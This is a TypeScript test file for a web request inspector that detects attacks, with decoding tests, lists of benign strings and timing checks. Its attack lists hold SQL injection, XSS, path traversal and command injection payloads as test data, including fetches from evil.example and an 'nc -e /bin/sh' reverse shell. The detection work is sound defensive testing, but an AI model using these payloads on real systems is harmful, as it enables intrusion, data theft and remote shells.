import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { INDICATOR } from "@vedette/semconv";
import { readSettings } from "../settings.ts";
import { decodeEntities, decodePercent, readingsOf } from "./decode.ts";
import { inspectRequest } from "./inspect-request.ts";
import { inspectValue } from "./inspect-value.ts";
import { createSeenValues } from "./seen-values.ts";

const settings = { ...readSettings({}).settings.inspection, maxMilliseconds: 10_000 };
const inspect = (path: string, query?: string, headers = {}) => inspectRequest(path, query, headers, settings);

describe("decoding", () => {
  it.each([
    ["a%20b+c", true, "a b c"],
    ["a%20b+c", false, "a b+c"],
    ["100%", true, "100%"],
    ["%zz%41", true, "%zzA"],
    ["%c0%af", true, "/"],
    ["%c0%ae%c0%ae", true, ".."],
    ["%u0027", true, "'"],
    ["%uff1cscript", true, "<script"],
    ["%ff", true, "\ufffd"],
    ["caf%C3%A9 %", true, "café %"],
    ["%", true, "%"],
    ["", true, ""],
  ])("reads %j (plus is space: %s) as %j", (text, plus, expected) => {
    expect(decodePercent(text, plus)).toBe(expected);
  });

  it("gives a second reading only where encoding is left", () => {
    expect(readingsOf("%2527", true)).toEqual(["%27", "'"]);
    expect(readingsOf("%27", true)).toEqual(["'"]);
    expect(readingsOf("100%25", true)).toEqual(["100%"]);
  });

  it("never throws, and reads what encodeURIComponent wrote", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "grapheme" }),
        (text) => decodePercent(encodeURIComponent(text.toWellFormed()), true) === text.toWellFormed(),
      ),
    );
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("%", "4", "1", "u", "c0", "%2", "+", "é")),
        (parts) => typeof decodePercent(parts.join(""), true) === "string",
      ),
    );
  });

  it.each([
    ["&lt;b&gt;", "<b>"],
    ["&#x6a;&#97", "ja"],
    ["java&Tab;script&colon;", "java\tscript:"],
    ["&unknown;&#99999999;", "&unknown;&#99999999;"],
  ])("reads the entities of %j", (text, expected) => {
    expect(decodeEntities(text)).toBe(expected);
  });
});

const ATTACKS = {
  [INDICATOR.sqlInjection]: [
    '{"name":"x","filter":["1\' OR \'1\'=\'1"]}',
    "1' OR '1'='1",
    "42 or 7=7",
    "x') or ('a'='a",
    "admin'--",
    "admin' #",
    "9 UNION ALL SELECT name, pass FROM accounts",
    "9/**/uNiOn/**/sElEcT/**/1,2,3",
    "1; DROP TABLE carts--",
    "1'; exec xp_cmdshell('dir')--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(3)) t)",
    "5' AND extractvalue(1, concat(0x5c, user()))-- -",
    "(select password from accounts limit 1)",
    "1' order by 7-- -",
    "7 having 1=1",
    '" or ""="',
    "1 || 1=1",
    "if(1=1,sleep(4),0)",
    "'; waitfor delay '0:0:9'--",
    "-1' union select null,@@version,null#",
    "1 and ascii(substring((select user()),1,1))>64",
    "1 /*!50000union*/ select 1",
    "x' into outfile '/srv/a.php",
    "1) where 3=3 or 4=5",
  ],
  [INDICATOR.xss]: [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="steal()',
    "<svg/onload=alert`1`>",
    "javascript:alert(document.domain)",
    "JaVa&Tab;ScRiPt:alert(1)",
    "';alert(1)//",
    '"-confirm(1)-"',
    "<iframe src=data:text/html;base64,AAAA>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<div style='width:expression(alert(1))'>",
    "<body onload=go()>",
    "{{constructor.constructor('alert(1)')()}}",
    "\\u003cscript\\u003ealert(1)",
    "<details open ontoggle=alert(1)>",
  ],
  [INDICATOR.pathTraversal]: [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/shadow",
    "/etc/passwd",
    "..;/..;/manager/html",
    "php://filter/convert.base64-encode/resource=index",
    "file:///etc/hosts",
    "../../../../boot.ini\u0000.png",
    "/../../../secret",
    "../../x",
    "C:\\windows\\system32\\drivers\\etc\\hosts",
  ],
  [INDICATOR.commandInjection]: [
    ";id",
    "| cat /etc/passwd",
    "`whoami`",
    "$(curl http://evil.example/x)",
    "x; /bin/ls -al",
    "a && wget http://evil.example/p.sh",
    "() { :;}; /bin/bash -c 'id'",
    "a|nc -e /bin/sh 10.0.0.9 4444",
    "127.0.0.1; sleep 10",
    '<!--#exec cmd="ls"-->',
    "& ping -c 5 127.0.0.1 &",
    "cat$IFS/etc/passwd",
    "x\nuname -a",
    "/usr/bin/id",
  ],
} as const;

describe("attacks", () => {
  for (const [indicator, values] of Object.entries(ATTACKS)) {
    it.each(values)(`sees ${indicator} in %j, however it is encoded`, (value) => {
      expect(inspectValue(value)).toContain(indicator);
      for (const encoded of [encodeURIComponent(value), encodeURIComponent(encodeURIComponent(value))]) {
        const { findings } = inspect("/search", `page=2&q=${encoded}`);
        expect(findings.map((finding) => finding.indicator)).toContain(indicator);
        expect(findings[0]).toMatchObject({ location: "query", parameter: "q" });
      }
    });
  }
});

const ORDINARY = [
  "O'Brien",
  "O'Connor's union selected a few friends",
  "rock 'n' roll",
  "1=1 mug",
  "mug 1=1",
  "D'or 1st parfum",
  "Smith & Sons",
  "AT&T",
  "C++ and C#",
  "1 + 1 = 2",
  "a=b",
  "x > y and y < z",
  "what is 2*3?",
  "select a size",
  "drop me a line",
  "union station",
  "order by phone",
  "insert coin",
  "update your profile from the settings page",
  "the case when it rains",
  "1-2 days; free returns",
  '"wood" and "sign" and "polka dots"',
  '14 1/2" x 3"',
  "5' 10\"",
  "it's -- well -- fine",
  "hello; world",
  "and/or",
  "not null",
  "like it or not",
  "between 5 and 10",
  "1 having",
  "8 or 9",
  "<3",
  "a < b",
  "if (x < 3) then y",
  "<b>bold</b>",
  'blah <a href="/foo">foo</a>',
  "on load",
  "online = yes",
  "javascript: the good parts",
  "JavaScript: Basics of JavaScript Language",
  "user(foo)",
  "alert the team",
  "../images/logo.png",
  "./readme",
  "file.tar.gz",
  "v1..v2",
  "wait... what",
  "C:\\Users\\ada\\notes.txt",
  "https://example.org/a/b?c=d&e=f#g",
  "/products/42",
  "etc. and so on",
  "cats & dogs",
  "fish | chips",
  "ls 300 lexus",
  "ping pong",
  "echo chamber",
  "find a host",
  "sleep; eat; repeat",
  "sort & filter",
  "id",
  "time: 12:30; date: 1/2",
  "$5 (five)",
  "100% cotton & 50% off",
  "cat; dog",
  "user@example.org",
  "+49 (30) 1234-567",
  "550e8400-e29b-41d4-a716-446655440000",
  "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
  "2026-11-21T06:32:12Z",
  "48.8566,2.3522",
  "[1,2,3]",
  '["/dist/","-price","> 0.2%, not dead"]',
  '{"and":[{"name":{"like":"a\'s"}},{"or":1}],"select":["id","name"]}',
  "Returns `true` if the selection is backward, `false` otherwise",
  "require Node@^12.0.0 || ^14.0.0 || >=16.0.0",
  "monaco-editor: update to the latest version (0.55.1)",
  "drag 'n' drop or file input",
  "brought to you by @ada, @grace and @alan.",
  "Returns a constructor (Function) that can be used",
  '{"a":1,"b":"x"}',
  "café & crème",
  "naïve d'été",
  "Ħ'ello",
  "日本語 'テスト'",
  "price>=10 and price<=20",
];

describe("ordinary values", () => {
  it.each(ORDINARY)("sees nothing in %j", (value) => {
    expect(inspect("/search", `q=${encodeURIComponent(value)}`).findings).toEqual([]);
  });

  it("sees nothing in what browsers send", () => {
    const headers = {
      "user-agent":
        "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0 (.NET CLR 3.5; like 'that')",
      referer: "https://www.search.example/?q=what%27s+new+%26+good&hl=en",
      cookie: 'theme="dark"; _ga=GA1.2.3.4; cart=%7B%22items%22%3A%5B1%2C2%5D%7D; sid=s%3Aabc.def%2Fghi',
      "x-forwarded-for": "192.0.2.1, 198.51.100.7",
    };
    const headersOfProxies = {
      "x-forwarded-host": "localhost:8080",
      "x-amzn-trace-id": "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1",
      "cf-visitor": '{"scheme":"https"}',
      forwarded: "for=192.0.2.60;proto=http;by=203.0.113.43",
      "cdn-loop": "cloudflare; count=1",
      "stripe-signature": "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51ca",
      "x-forwarded-client-cert":
        'By=spiffe://cluster.local/ns/a/sa/b;Hash=abc;Subject="CN=x,O=y";URI=spiffe://cluster.local/ns/c',
      "x-device": "iPhone13,4; iOS 17.1; scale=3.00",
      signature: 'keyId="rsa-key-1",algorithm="rsa-sha256",headers="(request-target) host date",signature="abc=="',
      cookie:
        "OptanonConsent=isGpcEnabled=0&datestamp=Sat+Nov+21+2026+10%3A00%3A00&groups=C0001%3A1%2CC0002%3A0; __utmz=111.222.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none)",
    };
    expect(inspect("/", undefined, headersOfProxies).findings).toEqual([]);
    expect(
      inspect(
        "/assets/app.min.js;v=3/@scope/it's(1).png",
        "v=1.2.3&sort=-price&filter[]=a&filter[]=b&empty=&flag",
        headers,
      ),
    ).toMatchObject({ findings: [], truncatedBy: undefined });
  });
});

describe("a request", () => {
  it("is searched in its path, parameter names, headers and cookies", () => {
    const { findings } = inspect("/files/..%2f..%2fetc%2fpasswd", "%27%20or%201%3D1--=x", {
      "user-agent": "sqlmap/1.8#stable (https://sqlmap.org)",
      referer: "https://shop.example/?q=<script>alert(1)</script>",
      cookie: "ok=1; track=1%27%20or%20%271%27%3D%271",
      "x-forwarded-for": "127.0.0.1; cat /etc/passwd",
    });
    const places = findings.map(({ indicator, location, parameter }) => `${indicator} ${location} ${parameter}`);
    expect(places).toEqual(
      expect.arrayContaining([
        "path_traversal path ",
        "sql_injection query ' or 1=1--",
        "scanner header user-agent",
        "xss header referer",
        "sql_injection cookie track",
        "command_injection header x-forwarded-for",
      ]),
    );
  });

  it("marks the value of a secret parameter", () => {
    expect(inspect("/login", "password=%27%20or%201%3D1--").findings[0]).toMatchObject({
      parameter: "password",
      secret: true,
    });
  });

  it.each([
    ["bytes", `q=${"a".repeat(60_000)}`, {}],
    ["parameters", Array.from({ length: 500 }, (_, index) => `p${index}=1`).join("&"), {}],
    ["findings", Array.from({ length: 20 }, (_, index) => `p${index}=..%2F..%2Fx`).join("&"), {}],
    ["time", `a=${"x'".repeat(2200)}&b=2'&c=3'`, { maxMilliseconds: -1, maxValueLength: 5000 }],
  ])("says that %s ended its inspection", (limit, query, override) => {
    expect(inspectRequest("/", query, {}, { ...settings, ...override }).truncatedBy).toBe(limit);
  });

  it("of ordinary length is inspected whatever the clock says", () => {
    const { findings, truncatedBy } = inspectRequest(
      "/",
      "a=1%27&b=..%2F..%2Fetc%2Fpasswd",
      {},
      { ...settings, maxMilliseconds: -1 },
    );
    expect([findings.length, truncatedBy]).toEqual([1, undefined]);
  });

  it("is judged for any bytes without an exception", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), fc.string(), (path, query, header) => {
        inspect(path, query, { "user-agent": header, referer: header, cookie: header });
      }),
    );
  });
});

describe("seen values", () => {
  it("are remembered while they are used, and forgotten otherwise", () => {
    const seen = createSeenValues(2);
    for (const value of ["a", "b", "c"]) seen.add(value);
    expect(["a", "b", "c", "d"].map((value) => seen.has(value))).toEqual([true, true, true, false]);
    for (const value of ["d", "e", "f", "g"]) seen.add(value);
    expect(["a", "b", "c", "g"].map((value) => seen.has(value))).toEqual([false, false, false, true]);
    seen.add("x".repeat(513));
    expect(seen.has("x".repeat(513))).toBe(false);
  });

  it("do not hide an attack that is sent again", () => {
    for (let round = 0; round < 3; round++) expect(inspect("/", "q=..%2F..%2Fetc%2Fpasswd").findings).toHaveLength(1);
  });
});

describe("time", () => {
  const PIECES = [
    "'",
    "''",
    '"',
    "(",
    "<a ",
    "<",
    "on",
    "onload =",
    "javascript:",
    "../",
    "{{alert",
    "&#",
    ";",
    "`",
    "select ",
    "union ",
    " or ",
    "/*",
    "--",
    "\\",
    "document.",
    "0x2f",
    "url(",
    "((",
  ];

  it("is bounded for values made to keep patterns busy", () => {
    // Eight times the longest value that is ever looked at; a pattern that backtracks would need minutes.
    for (const first of PIECES) {
      for (const second of PIECES) {
        const piece = first + second;
        const start = performance.now();
        inspectValue(piece.repeat(Math.ceil(32_768 / piece.length)));
        expect(performance.now() - start, `milliseconds for ${JSON.stringify(piece)}`).toBeLessThan(2000);
      }
    }
  });
});
